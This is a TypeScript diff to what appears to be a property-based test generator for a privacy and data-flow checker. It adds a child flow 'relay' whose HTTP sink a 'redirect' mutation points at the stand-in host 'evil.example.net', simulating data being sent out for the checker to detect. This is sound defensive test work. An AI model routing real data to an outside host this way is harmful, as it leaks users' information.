@@ -50,6 +50,7 @@ type Step =
   | { kind: 'if'; condition: Expr; body: readonly Step[] }
   | { kind: 'stop'; condition: Expr }
   | { kind: 'convert'; value: Expr }
+  | { kind: 'call'; value: Expr }
   | { kind: 'loop'; body: readonly Step[] }
   | { kind: 'parallel'; branches: readonly (readonly Step[])[] };
 
@@ -72,6 +73,7 @@ const steps = (fields: readonly Field[], withItems: boolean, depth: number, inLo
     e.map((value): Step => ({ kind: 'sink', value })),
     e.map((condition): Step => ({ kind: 'stop', condition })),
     e.map((value): Step => ({ kind: 'convert', value })),
+    e.map((value): Step => ({ kind: 'call', value })),
   ];
   if (depth > 0) {
     options.push(fc.record({ kind: fc.constant('if' as const), condition: e, body: steps(fields, withItems, depth - 1, inLoop) }));
@@ -97,7 +99,8 @@ interface Rendered {
 /**
  * The program as Jig source, and the oracle: the dependencies of every sink. A let names earlier
  * lets only (a later index reads a literal); a `stop` is `if C { fail }`, which every later step
- * then depends on; a `convert` is `let v = int(E)`, which fails on some values of E, so every
+ * then depends on; a `call` passes E to the child flow `relay`, whose one sink then depends on E
+ * and on every condition a call of it is made under; a `convert` is `let v = int(E)`, which fails on some values of E, so every
  * later step depends on E too; a loop's body depends on every field of the items it runs over; a
  * `parallel`'s branches depend on what ends their siblings (a `fail`; a failing `int` stops its own
  * branch only), and what follows it on what stops any of them.
@@ -127,6 +130,10 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number } = {}
     }
   };
   let named = 0;
+  /** What the calls of the child flow `relay` pass it and the conditions they are made under. */
+  const relayed = new Set<string>();
+  const passed = new Set<string>();
+  let calls = 0;
   /** What stops the rest of a block (`stops`), and what of it ends the whole run (`ends`: a `fail`). */
   interface Stopping {
     stops: Set<string>;
@@ -161,6 +168,15 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number } = {}
           lines.push(`${indent}let ${name} = int(${value.code})`);
           lets.push({ name, deps: value.deps });
           stops = new Set([...stops, ...value.deps]);
+          break;
+        }
+        case 'call': {
+          // The child's one sink sends what it is passed, under the conditions it is called under.
+          const value = text(step.value);
+          lines.push(`${indent}call flow relay with { v: ${value.code} }`);
+          for (const dep of [...value.deps, ...around]) relayed.add(dep);
+          for (const dep of value.deps) passed.add(dep);
+          calls++;
           break;
         }
         case 'stop': {
@@ -216,6 +232,27 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number } = {}
   emit(p.steps, '  ', new Set());
   const declared = [...new Set([...p.fields.map((f) => FIELDS[f]), ...(p.withItems ? Object.values(ITEM_FIELDS) : [])])];
   const purpose = mutate.purpose ?? 'automation';
+  const relay: string[] = [];
+  if (calls > 0) {
+    const index = sinks.length;
+    const host = mutate.redirect === index ? 'evil.example.net' : 'internal.example.com';
+    sinks.push({ deps: relayed, marker: `s${index}` });
+    relay.push(
+      'type Relayed {',
+      // Technical data about no one, which a third party may receive: only what is passed in it, or the conditions of a call, may not go there.
+      '  v: string @system.operational',
+      '}',
+      '',
+      '@purpose(automation, "generated child")',
+      `@data(${[...new Set(['system.operational', ...categoriesOf(passed)])].join(', ')})`,
+      '@retain(30 days)',
+      'flow relay {',
+      '  trigger http post body Relayed',
+      `  call http post "https://${host}/s${index}" body { v: trigger.body.v }`,
+      '}',
+      '',
+    );
+  }
   const source = [
     'type Item {',
     ...Object.entries(ITEM_FIELDS).map(([f, c]) => `  ${f}: string @${c}`),
@@ -234,6 +271,7 @@ function render(p: Program, mutate: { purpose?: string; redirect?: number } = {}
     ...lines,
     '}',
     '',
+    ...relay,
   ].join('\n');
   return { text: source, sinks };
 }
